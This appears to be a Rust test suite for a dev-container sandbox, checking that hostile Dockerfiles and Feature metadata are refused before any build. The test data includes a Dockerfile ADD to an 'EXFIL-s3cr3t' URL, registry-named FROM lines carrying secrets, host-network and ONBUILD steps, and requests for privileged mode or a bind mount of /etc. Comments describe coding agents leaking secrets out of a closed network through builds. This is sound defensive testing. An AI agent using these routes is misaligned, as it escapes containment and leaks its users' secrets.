//! Hostile repositories: see `super`. What is judged before anything is built: the `USER` a
//! Dockerfile's final stage will run as, read by `handoff --plan` (spec-note 0424), and the
//! Features' metadata, read by `up` before the Features are built (spec-note 0445).

use crate::support::deadline::Bounded as _;
use std::path::Path;
use std::process::Output;

use serde_json::Value;

use crate::support::context::Cleanup;
use crate::support::{self, docker::BUSYBOX_IMAGE, engine::docker, hostile::HostileRepo};

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn last_json(out: &Output) -> Value {
    let stdout = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(stdout.lines().last().unwrap_or_default())
        .unwrap_or_else(|e| panic!("{e}: {}", text(out)))
}

/// `devcell handoff --plan --format json` for workspace `ws`, with a settings file naming
/// agent `a` and state and cache folders of its own under `home`.
fn plan(ws: &Path, home: &Path) -> Output {
    std::fs::write(
        home.join("config.toml"),
        "[agents.a]\ncommand = [\"true\"]\n",
    )
    .unwrap();
    support::devcell()
        .env("DEVCELL_STATE_DIR", home.join("state"))
        .env("XDG_CACHE_HOME", home.join("cache"))
        .args(["handoff", "--plan", "--format", "json", "--agent", "a"])
        .arg("--config-file")
        .arg(home.join("config.toml"))
        .arg("--workspace-folder")
        .arg(ws)
        .write_stdin("")
        .output()
        .expect("devcell runs")
}

/// Images whose repository is `vsc-<folder of ws>-…` or that carry `label`.
fn images_of(ws: &Path, label: &str) -> Vec<String> {
    let base = ws.file_name().unwrap().to_string_lossy().to_lowercase();
    let (ok, named) = docker(&[
        "images",
        "-q",
        "--no-trunc",
        "--filter",
        &format!("reference=vsc-{base}-*"),
    ]);
    assert!(ok, "{named}");
    let (ok, labelled) = docker(&["images", "-q", "--no-trunc", "--filter", label]);
    assert!(ok, "{labelled}");
    named
        .split_whitespace()
        .chain(labelled.split_whitespace())
        .map(str::to_string)
        .collect()
}

#[test]
fn the_plan_reads_the_final_stage_user_of_a_dockerfile_never_built() {
    if !support::docker::engine_ready(
        "the_plan_reads_the_final_stage_user_of_a_dockerfile_never_built",
        BUSYBOX_IMAGE,
    ) {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    // (Dockerfile, build.args, root expected, what the note says)
    let cases: [(String, &str, Option<bool>, &str); 6] = [
        // a build argument overrides the ARG default the USER reads
        (
            format!("FROM {BUSYBOX_IMAGE}\nARG WHO=1000\nUSER $WHO\n"),
            r#"{"WHO": "00"}"#,
            Some(true),
            "",
        ),
        // inherited from the stage the final one is built on
        (
            format!("FROM {BUSYBOX_IMAGE} AS base\nUSER 0:0\nFROM base\nRUN true\n"),
            "{}",
            Some(true),
            "",
        ),
        // no USER anywhere: the base image's (the test image has none: root)
        (format!("FROM {BUSYBOX_IMAGE}\n"), "{}", Some(true), ""),
        // a numeric USER is decided and reported with its uid
        (
            format!("ARG B={BUSYBOX_IMAGE}\nFROM $B\nUSER 0\nARG U=1000\nUSER ${{U}}:1000\n"),
            "{}",
            Some(false),
            "runs as `1000:1000` (uid 1000)",
        ),
        // a name: its uid comes from the built image's passwd, said plainly
        (
            format!("FROM {BUSYBOX_IMAGE}\nRUN adduser -D -u 0 -o dev || true\nUSER dev\n"),
            "{}",
            None,
            "`USER dev` is a name",
        ),
        // a variable the base image's ENV sets (the Dockerfile alone would expand it empty)
        (
            format!("FROM {BUSYBOX_IMAGE}\nUSER ${{PATH:+0}}1000\n"),
            "{}",
            None,
            "reads `PATH`, which the base image",
        ),
    ];
    for (dockerfile, args, root, note) in cases {
        let repo = HostileRepo::new();
        repo.file(".devcontainer/Dockerfile", &dockerfile)
            .config(&format!(
                r#"{{"build": {{"dockerfile": "Dockerfile", "args": {args}}}}}"#
            ))
            .commit();
        let label = format!("label=devcontainer.local_folder={}", repo.path().display());
        let before = images_of(repo.path(), &label);
        let out = plan(repo.path(), home.path());
        let all = text(&out);
        let v = last_json(&out);
        match root {
            // a root final stage and no user named: the plan says devcell provides its own
            // non-root user instead of refusing root (spec-note 0188)
            Some(true) => {
                assert_eq!(out.status.code(), Some(0), "{dockerfile}: {all}");
                let result = &v["result"];
                assert_eq!(result["providedUser"], "devcell", "{dockerfile}: {result}");
                assert!(
                    !result["permissions"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|p| p["permission"] == "root"),
                    "{dockerfile}: {result}"
                );
                let notes = result["permissionNotes"].to_string();
                assert!(
                    notes.contains("runs as root (uid 0)")
                        && notes.contains("user provided by devcell"),
                    "{dockerfile}: {notes}"
                );
            }
            _ => {
                assert_eq!(out.status.code(), Some(0), "{dockerfile}: {all}");
                let result = &v["result"];
                assert!(
                    result.get("providedUser").is_none(),
                    "{dockerfile}: {result}"
                );
                assert!(
                    !result["permissions"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|p| p["permission"] == "root"),
                    "{dockerfile}: {result}"
                );
                let notes = result["permissionNotes"].to_string();
                assert!(notes.contains(note), "{dockerfile}: {notes}");
                if root.is_none() {
                    // never claimed non-root when the build decides
                    assert!(notes.contains("root is not ruled out"), "{notes}");
                }
            }
        }
        assert_eq!(
            images_of(repo.path(), &label),
            before,
            "{dockerfile}: nothing was built"
        );
    }
}

#[test]
fn a_local_features_requests_are_refused_before_anything_is_built() {
    if !support::docker::engine_ready(
        "a_local_features_requests_are_refused_before_anything_is_built",
        BUSYBOX_IMAGE,
    ) {
        return;
    }
    let token = format!("before-build-{}", std::process::id());
    let metadata = |key: &str, value: &str| {
        format!(
            r#"{{"id": "f", "version": "1.0.0", "containerEnv": {{"HOSTILE_TOKEN": "{token}"}},
                "{key}": {value}}}"#
        )
    };
    for (key, value, grant) in [
        ("privileged", "true", "--allow privileged"),
        ("capAdd", r#"["SYS_ADMIN"]"#, "--allow cap:SYS_ADMIN"),
        (
            "securityOpt",
            r#"["seccomp=unconfined"]"#,
            "--allow security-opt:seccomp=unconfined",
        ),
        (
            "mounts",
            r#"[{"type": "bind", "source": "/etc", "target": "/host-etc"}]"#,
            "--allow mount:/etc",
        ),
    ] {
        let repo = HostileRepo::new();
        repo.file(
            ".devcontainer/f/install.sh",
            "#!/bin/sh\ntouch /f-installed\n",
        )
        .file(
            ".devcontainer/f/devcontainer-feature.json",
            &metadata(key, value),
        )
        .config(&format!(
            r#"{{"image": "{BUSYBOX_IMAGE}", "remoteUser": "nobody", "features": {{"./f": {{}}}}}}"#
        ))
        .commit();
        let cleanup = Cleanup::default();
        cleanup.label(&format!(
            "devcontainer.local_folder={}",
            repo.path().display()
        ));
        let before = repo.fingerprint();
        let out = support::devcell()
            .args(["up", "--workspace-folder"])
            .arg(repo.path())
            .output()
            .unwrap();
        let all = text(&out);
        assert!(!out.status.success(), "{key}: {all}");
        assert!(
            all.contains("refusing to create the container"),
            "{key}: {all}"
        );
        assert!(
            all.contains(grant) && all.contains("Feature `./f`"),
            "{key}: {all}"
        );
        // nothing built or created: no image carries the Feature's environment, no container
        let (ok, images) = docker(&[
            "images",
            "-q",
            "--no-trunc",
            "--filter",
            "label=devcontainer.metadata",
        ]);
        assert!(ok, "{images}");
        for id in images.split_whitespace() {
            let (_, inspect) = docker(&["image", "inspect", id]);
            assert!(!inspect.contains(&token), "{key}: image {id} was built");
        }
        let (ok, containers) = docker(&[
            "ps",
            "-aq",
            "--filter",
            &format!("label=devcontainer.local_folder={}", repo.path().display()),
        ]);
        assert!(ok && containers.trim().is_empty(), "{key}: {containers}");
        assert_eq!(repo.fingerprint(), before, "{key}");
    }
}

/// That no container labelled with the workspace folder `workspace` exists.
fn assert_no_container(workspace: &str) {
    let (ok, containers) = docker(&[
        "ps",
        "-aq",
        "--filter",
        &format!("label=devcontainer.local_folder={workspace}"),
    ]);
    assert!(ok && containers.trim().is_empty(), "{containers}");
}

/// That `out` is a refusal naming `grant`, and that nothing was built or created for the
/// workspace of `ctx`; `out`'s text.
fn assert_refused_before_anything_is_built(
    ctx: &crate::support::context::TestContext,
    out: &Output,
    grant: &str,
) -> String {
    let all = text(out);
    assert!(!out.status.success(), "{all}");
    assert!(all.contains(grant), "{grant}: {all}");
    assert!(
        images_of(ctx.path(), "label=devcell-test-none").is_empty(),
        "built: {all}"
    );
    assert_no_container(&ctx.path().display().to_string());
    all
}

/// Attacks H6 and G9 (spec-note 0612), devcontainer.json's own build: a Dockerfile `RUN`
/// step on the host network (`RUN --network=host`, which newer builders run in the host's
/// network namespace under a handoff's network `none`), and a base image whose `ONBUILD`
/// trigger mounts a BuildKit cache shared with every build on the engine (the Dockerfile shows
/// nothing). Each makes `up` refuse before anything is built or created, naming its grant.
#[test]
fn a_host_network_run_step_and_an_onbuild_base_are_refused_before_the_dockerfile_is_built() {
    use crate::support::context::TestContext;
    let Some(ctx) = TestContext::busybox("before_build_run_flags") else {
        return;
    };
    let ctx = ctx.isolated();
    let pid = std::process::id();
    let base = format!("devcell-test/onbuild-df-{pid}:1");
    ctx.cleanup().image(&base);
    let dir = ctx.tmp().join("base");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("Dockerfile"),
        format!(
            "FROM {BUSYBOX_IMAGE}\nONBUILD RUN --mount=type=cache,id=devcell-onbuild-df-{pid},target=/c \
             sh -c 'echo planted > /c/secret'\n"
        ),
    )
    .unwrap();
    let built = std::process::Command::new("docker")
        .args(["build", "-q", "-t", &base])
        .arg(&dir)
        .bounded_output()
        .unwrap();
    assert!(built.status.success(), "{built:?}");
    let ctx = ctx.config(r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#);
    let workspace = ctx.path().display().to_string();
    ctx.cleanup()
        .label(&format!("devcontainer.local_folder={workspace}"));
    for (dockerfile, grant) in [
        (
            format!(
                "FROM {BUSYBOX_IMAGE}\nRUN --network=host wget -qO- http://127.0.0.1:5000/v2/_catalog\n"
            ),
            "--allow network:host".to_string(),
        ),
        (
            format!("FROM {base}\n"),
            format!("--allow runtime-option:build_onbuild={base}"),
        ),
    ] {
        ctx.write(".devcontainer/Dockerfile", &dockerfile);
        let out = ctx.output("up", &[]);
        let all = assert_refused_before_anything_is_built(&ctx, &out, &grant);
        assert!(
            all.contains("Dockerfile `.devcontainer/Dockerfile`"),
            "{all}"
        );
    }
}

/// Attack G9 for an `image` configuration (left by session 19): the image's `ONBUILD`
/// triggers run first in devcell's own Features and uid layer builds `FROM` it, though no
/// Dockerfile of the repository shows them. Under `hardened` `up` refuses them, naming the
/// grant and the triggers, before any build: no image is built `FROM` the base (none carries
/// its history, so the trigger's marker exists nowhere) and no container exists.
#[test]
fn an_image_configurations_onbuild_triggers_are_refused_before_devcell_builds_from_it() {
    use crate::support::context::TestContext;
    let Some(ctx) = TestContext::busybox("before_build_image_onbuild") else {
        return;
    };
    let ctx = ctx.isolated();
    let pid = std::process::id();
    let base = format!("devcell-test/onbuild-img-{pid}:1");
    ctx.cleanup().image(&base);
    let dir = ctx.tmp().join("base");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("Dockerfile"),
        format!("FROM {BUSYBOX_IMAGE}\nONBUILD RUN echo planted-{pid} > /onbuild-marker\n"),
    )
    .unwrap();
    let built = std::process::Command::new("docker")
        .args(["build", "-q", "-t", &base])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(built.status.success(), "{built:?}");
    // a Feature: devcell builds its layer `FROM` the image
    let ctx = ctx.config(&format!(
        r#"{{"image": "{base}", "remoteUser": "nobody", "features": {{"./f": {{}}}}}}"#
    ));
    ctx.feature("f", r#"{"id": "f", "version": "1.0.0"}"#, "true");
    let workspace = ctx.path().display().to_string();
    ctx.cleanup()
        .label(&format!("devcontainer.local_folder={workspace}"));
    let out = ctx.output("up", &[]);
    let all = text(&out);
    assert!(!out.status.success(), "{all}");
    assert!(
        all.contains(&format!("--allow runtime-option:build_onbuild={base}")),
        "{all}"
    );
    assert!(
        all.contains(&format!(
            "image `{base}` (`ONBUILD RUN echo planted-{pid} > /onbuild-marker`)"
        )),
        "{all}"
    );
    assert!(
        images_of(ctx.path(), "label=devcell-test-none").is_empty(),
        "built: {all}"
    );
    // no image made after the base carries its history: nothing was built `FROM` it
    let (ok, since) = docker(&[
        "images",
        "-aq",
        "--no-trunc",
        "--filter",
        &format!("since={base}"),
    ]);
    assert!(ok, "{since}");
    for id in since.split_whitespace() {
        let (_, history) = docker(&["history", "--no-trunc", "--format", "{{.CreatedBy}}", id]);
        assert!(
            !history.contains(&format!("planted-{pid}")),
            "{id} was built from the base: {history}"
        );
    }
    assert_no_container(&workspace);
}

/// Attack L6: under a closed build network (spec-note 0442), a Dockerfile `ADD` of a URL is
/// fetched by the builder itself, on the host's network: the agent wrote
/// `ADD http://127.0.0.1:<port>/EXFIL-<secret>` and the next `up --network none` sent the
/// secret out. It is a `build_fetch=<host>` request, refused before anything is built: a
/// tripwire listener on this machine sees no connection, and no image exists.
#[test]
fn a_remote_add_is_refused_before_the_builder_fetches_it() {
    use crate::support::context::TestContext;
    let Some(ctx) = TestContext::busybox("before_build_remote_add") else {
        return;
    };
    let ctx = ctx.isolated();
    // Every connection is counted and closed at once, so a builder that reaches it fails
    // fast instead of waiting for an answer.
    let tripwire = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tripwire.local_addr().unwrap().port();
    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = reached.clone();
    std::thread::spawn(move || {
        for stream in tripwire.incoming() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(stream);
        }
    });
    let ctx = ctx.config(r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#);
    let workspace = ctx.path().display().to_string();
    ctx.cleanup()
        .label(&format!("devcontainer.local_folder={workspace}"));
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!("FROM {BUSYBOX_IMAGE}\nADD http://127.0.0.1:{port}/EXFIL-s3cr3t /x\n"),
    );
    let out = ctx.output("up", &["--network", "none"]);
    let grant = format!("--allow runtime-option:build_fetch=127.0.0.1:{port}");
    let all = assert_refused_before_anything_is_built(&ctx, &out, &grant);
    assert_eq!(
        reached.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the builder connected to the tripwire: {all}"
    );
}

/// Attack K12: under a closed network the engine pulls `FROM` on the host's network, so an
/// agent that wrote `FROM 127.0.0.1:<port>/x:<secret>` into the working tree had the next
/// `up --network none` send the secret to a registry it named. A registry host the committed
/// configuration does not name is `registry:<host>`, refused before anything is pulled or
/// built: a tripwire listener sees no connection. The committed Dockerfile, naming a registry
/// image the engine does not have, still builds with no flag (its host is committed); the
/// same reference in a file git does not track is asked for.
#[test]
fn a_from_line_the_agent_wrote_does_not_reach_a_new_registry_unasked() {
    use crate::support::context::TestContext;
    use crate::support::git::git;
    let Some(ctx) = TestContext::busybox("before_build_registry_channel") else {
        return;
    };
    let ctx = ctx.isolated();
    let registry = std::env::var("DEVCELL_TEST_REGISTRY").unwrap();
    // a registry image the engine does not have, so the build must pull it
    let pulled = format!(
        "{registry}/devcell-test/k12-committed:{}",
        crate::support::run_token()
    );
    ctx.cleanup().image(&pulled);
    for args in [
        vec!["tag", BUSYBOX_IMAGE, pulled.as_str()],
        vec!["push", pulled.as_str()],
        vec!["rmi", pulled.as_str()],
    ] {
        let (ok, out) = docker(&args);
        assert!(ok, "{args:?}: {out}");
    }
    let tripwire = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tripwire.local_addr().unwrap().port();
    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = reached.clone();
    std::thread::spawn(move || {
        for stream in tripwire.incoming() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(stream);
        }
    });
    let ctx = ctx.config(r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#);
    let workspace = ctx.path().display().to_string();
    ctx.cleanup()
        .label(&format!("devcontainer.local_folder={workspace}"));
    ctx.remove_images_matching(&format!(
        "vsc-{}-*",
        ctx.path()
            .file_name()
            .unwrap()
            .to_string_lossy()
            .to_lowercase()
    ));
    let committed = format!("FROM {pulled}\n");
    ctx.write(".devcontainer/Dockerfile", &committed);
    git(ctx.path(), &["init", "-q"]);
    git(ctx.path(), &["add", "-A"]);
    git(
        ctx.path(),
        &["commit", "-q", "-m", "committed configuration"],
    );

    // the agent's working-tree edit names a new registry
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!("FROM 127.0.0.1:{port}/x:s3cr3t\n"),
    );
    let out = ctx.output("up", &["--network", "none"]);
    let all = text(&out);
    assert!(!out.status.success(), "{all}");
    let grant = format!("--allow registry:127.0.0.1:{port}");
    assert!(all.contains(&grant), "{grant}: {all}");
    assert_eq!(
        reached.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the engine connected to the tripwire: {all}"
    );
    assert!(ctx.containers().is_empty(), "created: {all}");

    // the same registry in a file git does not track: asked for too
    ctx.write(".devcontainer/Dockerfile", &committed);
    let untracked = r#"{"build": {"dockerfile": "Untracked"}, "remoteUser": "nobody"}"#;
    ctx.write(".devcontainer/Untracked", &committed);
    ctx.write(".devcontainer/devcontainer.json", untracked);
    let out = ctx.output("up", &["--network", "none"]);
    let all = text(&out);
    assert!(!out.status.success(), "{all}");
    assert!(
        all.contains(&format!("--allow registry:{registry}")),
        "{all}"
    );
    git(
        ctx.path(),
        &["checkout", "--", ".devcontainer/devcontainer.json"],
    );

    // the committed configuration needs no flag: the build pulls from the committed registry
    let out = ctx.output("up", &["--network", "none"]);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    assert_eq!(reached.load(std::sync::atomic::Ordering::SeqCst), 0);
}
